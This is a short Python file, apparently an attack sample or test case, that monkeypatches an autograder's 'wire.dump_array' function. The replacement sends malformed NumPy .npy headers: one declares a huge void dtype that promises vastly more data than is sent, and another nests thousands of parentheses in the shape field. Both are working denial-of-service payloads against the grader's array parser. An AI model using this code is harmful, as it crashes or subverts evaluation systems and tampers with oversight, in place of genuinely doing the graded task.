"""Sends an .npy header that promises a terabyte."""
# control: naive
# %% attack in double
from autograder.kernel import wire
def dump_array(array):
    header = b"{'descr': '|V1000000', 'fortran_order': False, 'shape': (1000,), }"
    return b"\x93NUMPY\x01\x00" + (len(header) + 1).to_bytes(2, "little") + header + b"\n" + bytes(100)
def dump_nested(array):
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (" + b"(" * 3000 + b")" * 3000 + b"), }"
    return b"\x93NUMPY\x01\x00" + (len(header) + 1).to_bytes(2, "little") + header + b"\n"
wire.dump_array = dump_array
